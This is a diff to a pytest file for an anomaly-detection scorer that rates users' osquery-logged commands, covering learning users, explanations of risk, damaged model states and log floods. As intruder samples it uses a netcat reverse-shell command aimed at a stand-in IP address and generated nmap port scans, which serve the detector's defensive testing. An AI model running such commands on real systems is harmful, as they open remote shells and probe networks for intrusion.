@@ -1,3 +1,5 @@
+"""Actions to scores: whose model, from which state, with what reasons; and what a flood does."""
+
 from __future__ import annotations
 
 import json
@@ -8,13 +10,14 @@ from typing import TYPE_CHECKING
 import msgspec
 import pytest
 
-from anomaly.osquery import Action
-from anomaly.records import ReasonKind
-from anomaly.scoring import Scorer
+from anomaly.identity import Identities
+from anomaly.osquery import Action, Parser, Skipped
+from anomaly.records import ALARM, ReasonKind, Severity
+from anomaly.scoring import EXPLAINED_RISK, Scorer
 from anomaly.store import Store, Stored
 
 if TYPE_CHECKING:
-    from tests.conftest import Trained
+    from tests.conftest import Event, Trained
 
 ALIEN = {"username": "alice", "command": "nc -e /bin/sh 203.0.113.9 4444"}
 
@@ -30,6 +33,24 @@ def test_a_user_without_a_model_gets_a_record_without_a_score(models: Path) -> N
     assert score is not None
     assert (score.score, score.risk, score.surprise) == (None, None, None)
     assert (score.model.algorithm, score.model.version, score.model.state) == (None, None, "none")
+
+
+def test_a_user_who_is_being_learned(crowd_models: Path) -> None:
+    """With a background a user without a model is scored by what everyone does, and never alarmed about."""
+    background = Store(crowd_models).load_background()
+    assert background is not None
+    scorer = Scorer(Store(crowd_models).load, background=background)
+    usual, odd = (scorer.score("1", act("mallory", command=text)) for text in ("git status", ALIEN["command"]))
+    assert usual is not None
+    assert odd is not None
+    for score in (usual, odd):
+        assert (score.model.algorithm, score.model.version, score.model.state) == (None, None, "learning")
+        assert (score.risk, score.severity, score.reasons) == (None, Severity.NONE, ())
+    assert 0 <= (usual.score or 0) < (odd.score or 0) <= 100
+    row = scorer.score("1", msgspec.structs.replace(act("mallory", **ALIEN), baseline=True))
+    assert row is not None
+    assert (row.score, row.risk, row.surprise, row.model.state) == (None, None, None, "none")
+    assert scorer.export() == {}
 
 
 def test_only_one_user(models: Path) -> None:
@@ -109,6 +130,23 @@ def test_an_intruder_stands_out_and_is_explained(
     assert set(first.expected) <= {"git status", "git diff", "pytest -q", "vim src/app.py", "ls", "make test"}
 
 
+def test_both_views_explain(both_models: Path, actions: list[Action], scorer: Callable[[Path], Scorer]) -> None:
+    """What is odd in the sequence is a reason, and from a risk of 20 on the mix of the window, as the last one."""
+    mine = scorer(both_models)
+    seen = [score for action in actions[-400:] if (score := mine.score("1", action)) and action.user == "alice"]
+    for number in range(60):
+        score = mine.score("2", act(**ALIEN | {"command": f"nmap -p{number} 10.9.{number}.1"}))
+        assert score is not None
+        seen.append(score)
+    explained = [score for score in seen if score.reasons]
+    for score in explained:
+        mixes = [reason.kind is ReasonKind.UNUSUAL_MIX for reason in score.reasons]
+        assert mixes == [*[False] * (len(mixes) - 1), (score.risk or 0.0) >= EXPLAINED_RISK]
+        assert len(mixes) <= 3
+    assert {(score.risk or 0.0) >= EXPLAINED_RISK for score in explained} == {False, True}
+    assert [reason.kind for reason in seen[-1].reasons] == [ReasonKind.NEW_VALUE, ReasonKind.UNUSUAL_MIX]
+
+
 def test_usual_actions_are_not_explained(
     trained: Trained, actions: list[Action], scorer: Callable[[Path], Scorer]
 ) -> None:
@@ -159,6 +197,11 @@ def states(saved: dict[str, object]) -> Iterator[dict[str, object]]:
     yield {"alice": {**good, "model": ["LSTM", 1, "another log"]}}
     yield {"alice": {**good, "risk": "high"}}
     yield {"alice": {**good, "risk": []}}
+    damage: list[object] = [5, "x", [[]]]
+    for name in ("odds", "admission", "adaptation"):
+        for value in damage:
+            yield {"alice": {**good, name: value}}
+        yield {"alice": {key: value for key, value in good.items() if key != name}}
     unfit: list[object] = [
         None,
         [],
@@ -229,3 +272,42 @@ def test_users_do_not_touch_each_other(
         mixed.score("2", theirs)
         found.append(mixed.score("1", mine))
     assert found == expected[: len(found)]
+
+
+def flood(event: Event, what: str, time: int) -> list[bytes]:
+    """Return lines of alice's that come all at once."""
+    if what == "equal lines":
+        return [event(time=time + number // 10, command="sleep 0.1") for number in range(10_000)]
+    path, count, runs = ("/usr/sbin/svc", 300, 3) if what == "a reboot" else ("/usr/lib/pkg/lib", 5000, 1)
+    return [
+        event("alice", "processes", time=time + number * runs // count, name=f"n{number}", path=f"{path}{number}")
+        for number in range(count)
+    ]
+
+
+@pytest.mark.parametrize(
+    ("what", "kind"),
+    [
+        *(("equal lines", kind) for kind in ("ocsvm", "lstm", "both", "crowd")),
+        *(("a reboot", kind) for kind in ("lstm", "both", "crowd")),
+        *(("an upgrade", kind) for kind in ("lstm", "both", "crowd")),
+    ],
+)
+def test_floods_do_not_ring(
+    what: str, kind: str, request: pytest.FixtureRequest, later: Callable[[int, int], list[Action]], event: Event
+) -> None:
+    """Whatever floods the log, at most 100 of the user's own actions after it are at an alarming risk."""
+    make = request.getfixturevalue("crowd") if kind == "crowd" else later
+    own = [action for action in make(800, 3) if action.user == "alice"]
+    scorer = Scorer(Store(request.getfixturevalue(f"{kind}_models")).load, only="alice")
+    before = [scorer.score("1", action) for action in own[:300]]
+    parser = Parser(Identities(hostname="", lookup=lambda _: None))
+    for line in flood(event, what, own[299].time + 1):
+        parsed = parser.parse(line)
+        assert not isinstance(parsed, Skipped)
+        score = scorer.score("2", parsed[0])
+        assert score is not None
+        assert score.score is not None
+    after = [scorer.score("1", action) for action in own[300:]]
+    assert not any((score.risk or 0.0) >= ALARM for score in before if score)
+    assert sum((score.risk or 0.0) >= ALARM for score in after if score) <= 100
